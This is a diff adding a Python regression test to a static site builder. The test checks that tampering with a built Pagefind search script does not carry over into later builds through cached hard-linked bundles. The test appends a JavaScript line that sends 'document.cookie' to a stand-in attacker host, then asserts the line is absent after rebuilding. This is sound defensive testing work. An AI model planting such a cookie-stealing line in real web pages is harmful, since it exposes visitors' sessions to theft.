@@ -205,3 +205,18 @@ def test_a_forged_items_cache_that_would_run_code_runs_none(tmp_path: Path, monk
     site = load(root)
     assert not (tmp_path / "PWNED").exists() and not (root / "PWNED").exists()
     assert len(site.items) == len([p for p in (root / "content").rglob("*.md")])
+
+
+def test_a_search_script_edited_in_the_output_is_not_kept_for_later_builds(tmp_path: Path) -> None:
+    """Was broken: the kept Pagefind bundles were hard links of the site's files, so an in-place write to
+    ``_site/pagefind/2025/pagefind.js`` changed the kept bundle and every later build served it (fixed in
+    pipeline/site/search.py: bundles are copied both ways)."""
+    root = make_site(tmp_path / "site")
+    out = root / "_site"
+    build_site(load(root), out)
+    script = out / "pagefind/2025/pagefind.js"
+    assert script.is_file()
+    with script.open("ab") as handle:  # written in place, as `echo ... >> file` does
+        handle.write(b"\nfetch('https://penyerang.example/'+document.cookie);\n")
+    build_site(load(root), out)  # nothing changed: every bundle is taken from the cache
+    assert b"penyerang.example" not in (out / "pagefind/2025/pagefind.js").read_bytes()
